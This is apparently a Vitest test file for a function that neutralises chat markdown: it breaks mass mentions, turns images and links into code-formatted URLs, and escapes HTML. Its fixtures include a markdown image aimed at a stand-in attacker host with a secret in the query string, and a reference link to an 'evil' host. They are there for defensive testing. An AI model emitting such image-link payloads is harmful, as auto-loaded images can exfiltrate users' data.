import { describe, expect, it } from 'vitest';
import { codeSpan, neutraliseMarkdown, splitCode } from '../../src/channels/markup.js';

const NEUTRAL = { mentions: 'mass', links: true } as const;
const ZWSP = '\u200B';

describe('neutraliseMarkdown', () => {
  it('breaks mass mentions but leaves other mentions and e-mail addresses alone', () => {
    expect(neutraliseMarkdown('@channel @All @here. @everyone @alice a@b.com', NEUTRAL)).toBe(`@${ZWSP}channel @${ZWSP}All @${ZWSP}here. @${ZWSP}everyone @alice a@b.com`);
  });

  it('with mentions "all", every @name keeps its @ visible but stops being a mention', () => {
    expect(neutraliseMarkdown('thanks @alice and @org/team', { mentions: 'all', links: true })).toBe(`thanks @${ZWSP}alice and @${ZWSP}org/team`);
  });

  it('turns an image into its alt text and its URL as code, so nothing loads', () => {
    expect(neutraliseMarkdown('![t](http://attacker/track.png?d=secret "x")', NEUTRAL)).toBe('t (`http://attacker/track.png?d=secret`)');
    expect(neutraliseMarkdown('![](http://a/p.png)', NEUTRAL)).toBe('`http://a/p.png`');
  });

  it('shows the target of a link next to its words, also with nested brackets and parentheses', () => {
    expect(neutraliseMarkdown('see [docs](https://x.y/a(b)c) now', NEUTRAL)).toBe('see docs (`https://x.y/a(b)c`) now');
    expect(neutraliseMarkdown('[a [b [c]] d](http://e)', NEUTRAL)).toBe('a [b [c]] d (`http://e`)');
    expect(neutraliseMarkdown('[@channel](<http://e x>)', NEUTRAL)).toBe(`@${ZWSP}channel (\`http://e x\`)`);
  });

  it('puts bare URLs and autolinks in code spans (no preview) and keeps trailing punctuation outside', () => {
    expect(neutraliseMarkdown('go to https://ex.com/x. or <https://a.b> or www.c.d', NEUTRAL)).toBe('go to `https://ex.com/x`. or `https://a.b` or `www.c.d`');
  });

  it('escapes HTML and whatever could still start a link or a reference definition', () => {
    expect(neutraliseMarkdown('<img src=x>', NEUTRAL)).toBe('\\<img src=x>');
    expect(neutraliseMarkdown('[x]: http://evil\n[click][x]', NEUTRAL)).toBe('\\[x]: `http://evil`\n[click][x]');
    expect(neutraliseMarkdown('[`x`](http://e)', NEUTRAL)).toBe('[`x`]\\(`http://e`)');
  });

  it('leaves code spans and fenced blocks as they are', () => {
    const text = 'run `curl https://x/@channel`\n```\n![i](http://a/p.png) @here\n```\nthen @here';
    expect(neutraliseMarkdown(text, NEUTRAL)).toBe(`run \`curl https://x/@channel\`\n\`\`\`\n![i](http://a/p.png) @here\n\`\`\`\nthen @${ZWSP}here`);
  });

  it('with links false, only mentions change', () => {
    expect(neutraliseMarkdown('@here ![i](http://a/p.png)', { mentions: 'mass', links: false })).toBe(`@${ZWSP}here ![i](http://a/p.png)`);
  });
});

describe('codeSpan and splitCode', () => {
  it('fences a text holding backticks with a longer run', () => {
    expect(codeSpan('a`b')).toBe('``a`b``');
    expect(codeSpan('`x')).toBe('`` `x ``');
  });

  it('treats an unclosed backtick run as text', () => {
    expect(splitCode('a ` b `` c')).toEqual([
      { text: 'a `', code: false },
      { text: ' b ``', code: false },
      { text: ' c', code: false },
    ]);
  });
});
